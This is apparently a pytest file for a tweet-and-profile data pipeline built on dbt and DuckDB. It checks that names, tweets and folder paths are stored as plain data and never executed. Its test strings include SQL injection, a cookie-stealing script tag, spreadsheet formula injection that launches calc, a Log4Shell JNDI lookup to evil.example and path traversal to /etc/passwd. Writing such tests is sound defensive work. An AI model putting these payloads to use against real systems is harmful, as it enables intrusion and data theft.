"""Contents are data: nothing in a name, a tweet or a path is ever run."""

from __future__ import annotations

import ast
import re

import pytest

from support.ledger import trying
from support.places import ROOT
from support.project import Project, succeed
from support.raw_cases import lines, profile, tweet, write_sound_files

RUNS_WHAT_IT_LOADS = {"pickle", "cPickle", "dill", "cloudpickle", "joblib", "shelve", "marshal"}
CALLS_REFUSED = {"eval", "exec", "read_pickle", "to_pickle", "compile_command"}
STRINGS = (
    "Robert'); drop schema staging cascade; --",
    "{{ env_var('HOME') }}{% for x in y %}",
    "<script>alert(document.cookie)</script>",
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "%s%n{0}$name",
    "\u202etxt.exe",
    "' or 1=1 --",
    'quote " and \\ backslash',
)
# Far from what write_sound_files counts up to, however much ran in this process before.
OWN_IDS = 10**12
FOLDERS = ('it\'s {{ nope() }} "x" ü', "a b;c&d$HOME", "line\nfeed", "[x]*{a,b}")


def test_nothing_is_loaded_that_could_run_code():
    found = []
    for path in sorted((ROOT / "python").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = set()
            if isinstance(node, ast.Import):
                names = {alias.name.split(".")[0] for alias in node.names} & RUNS_WHAT_IT_LOADS
            elif isinstance(node, ast.ImportFrom):
                names = {(node.module or "").split(".")[0]} & RUNS_WHAT_IT_LOADS
            elif isinstance(node, ast.Call):
                called = node.func
                name = called.attr if isinstance(called, ast.Attribute) else ""
                name = called.id if isinstance(called, ast.Name) else name
                pickles = any(keyword.arg == "allow_pickle" for keyword in node.keywords)
                names = ({name} & CALLS_REFUSED) | ({"allow_pickle"} if pickles else set())
            # The story executes the project's own text notebook, as a kernel would, and no data.
            if path == ROOT / "python" / "plumage" / "pages" / "story" / "notebook.py":
                names -= {"exec", "eval"}
            found += [f"{path.name}:{node.lineno} {name}" for name in names]
    assert found == []


@pytest.mark.verify
def test_a_warehouse_where_dbt_would_misread_the_path_is_refused_in_words(tmp_path):
    project = Project(tmp_path / "why?")
    place = {"PLUMAGE_DUCKDB": str(project.warehouse)}
    run = project.dbt("run", "-s", "base_raw__files", **place)
    assert run.returncode != 0
    assert "Let PLUMAGE_DUCKDB name another place" in run.stdout
    assert "Traceback" not in run.stdout + run.stderr


@pytest.mark.verify
@pytest.mark.trust
def test_hostile_texts_and_paths_arrive_as_they_are(tmp_path):
    """In a raw folder and a warehouse below hostile names, through staging, text and quality."""
    project = Project(tmp_path.joinpath(*FOLDERS))
    write_sound_files(project.raw)
    profiles = [
        profile(100 + number, name=text, screen_name=f"x{number}", description=text, location=text)
        for number, text in enumerate(STRINGS)
    ]
    tweets = [
        tweet(id=OWN_IDS + number, text=text, source=f"<a href='{text}'>{text}</a>", lang=text)
        for number, text in enumerate(STRINGS)
    ]
    (project.raw / "age_profiles-x'; drop.jsonl").write_bytes(lines(*profiles))
    (project.raw / "age_tweets-{{ 7 * 7 }} ..\n$x.jsonl").write_bytes(lines(*tweets, "{broken"))
    name = f"texts in folders named {', '.join(map(repr, FOLDERS))}"
    with trying("hostile content", name, tried=len(STRINGS)) as row:
        select = ("-s", "+fct_data_quality_findings", "+fct_record_reconciliation")
        select += ("int_tweet_tokens", "+int_texts__measured", "+int_bios__facts_read")
        exclude = ("--exclude-resource-type", "test", "--exclude-resource-type", "unit_test")
        # The path itself, not the link to it by which other tests spare dbt its parse.
        place = {"PLUMAGE_DUCKDB": str(project.warehouse)}
        build = project.dbt("build", *select, *exclude, **place)
        row.crashes = ("Traceback" in build.stdout + build.stderr) * 1
        succeed(build)
        found = project.query(
            "select display_name, description, location from staging.stg_twitter__profiles"
            " where user_id >= 100 order by user_id"
        )
        assert found == [(text, text, text) for text in STRINGS]
        kept = project.query(
            f"select text, lang from staging.stg_twitter__tweets where tweet_id >= {OWN_IDS}"
            " order by tweet_id"
        )
        assert kept == [(text, text) for text in STRINGS]
        counts = project.query(
            "select sum(read_count), sum(abs(read_count - kept_count - rejected_count"
            " - duplicate_count)) from marts.fct_record_reconciliation"
        )
        row.records, row.lost = map(int, counts[0])
        assert row.lost == 0
        listed = succeed(project.plumage("rejects", "list")).stdout
        # Names are shown escaped: one line for one file.
        assert len(listed.splitlines()) == 1
        assert re.search(r"not_json|cut_off", listed)
        row.outcome = "kept letter by letter"
